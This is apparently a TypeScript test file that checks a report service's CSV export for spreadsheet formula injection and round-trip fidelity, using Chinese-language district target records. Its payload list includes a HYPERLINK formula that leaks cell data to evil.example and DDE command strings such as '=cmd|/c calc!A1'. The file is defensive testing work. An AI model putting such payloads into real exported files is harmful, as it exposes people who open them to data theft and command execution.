import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createReportService } from '../../server/src/service.ts';

const FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"x")', '=cmd|/c calc!A1', '@SUM(A1:A9)', '+cmd|x', '-cmd|x', '=1+1'];
const PLAIN = ['-5%', '≥30家', '400亿元', '8%以上'];
const UNIT = /(?:^|,)(?:"(?:[^"]|"")*"|[^,]*)/g;

describe('a table that is written for Excel', () => {
  it('holds no formula that came out of a record, and is read back as it was', () => {
    const uri = 'file:///w/目标.yaml';
    for (const formula of FORMULAS) {
      const said = JSON.stringify(formula);
      const service = createReportService();
      const text = `时期: 2023\n地区: 惠济区\n目标:\n  - { 指标: ${said}, 目标值: 400亿元, 释义: ${said}, 责任单位: ${said}, 来源: ${said} }\n`;
      service.apply({ data: new Map([[uri, { uri, kind: 'targets', text }]]) });
      const edit = service.convert({ uri, to: 'csv' })?.edit;
      const csv = (edit?.documentChanges ?? [])
        .flatMap((change) => ('edits' in change ? change.edits.map((one) => ('newText' in one ? one.newText : '')) : []))
        .join('');
      assert.match(csv, /400亿元/);
      for (const line of csv.split('\n').filter((one) => !one.startsWith('#')))
        for (const [cell] of line.matchAll(UNIT)) assert.doesNotMatch(cell.replace(/^,?"?/, ''), /^[=@\t]|^[+-](?!\d)/, line);
      const again = createReportService();
      const table = 'file:///w/目标.csv';
      again.apply({ data: new Map([[table, { uri: table, kind: 'targets', text: csv }]]) });
      const [record] = again.analysis().data.targets;
      assert.deepEqual([record?.definition, record?.owner, record?.source], [formula, formula, formula]);
    }
  });

  it('keeps figures with a sign as they are', () => {
    const uri = 'file:///w/目标.yaml';
    const service = createReportService();
    const records = PLAIN.map((value, i) => `  - { 指标: 指标${'甲乙丙丁戊'.charAt(i)}, 目标值: "${value}" }\n`).join('');
    service.apply({ data: new Map([[uri, { uri, kind: 'targets', text: `时期: 2023\n地区: 惠济区\n目标:\n${records}` }]]) });
    const csv = JSON.stringify(service.convert({ uri, to: 'csv' }));
    for (const value of PLAIN) assert.ok(csv.includes(`,${value}`), value);
  });
});
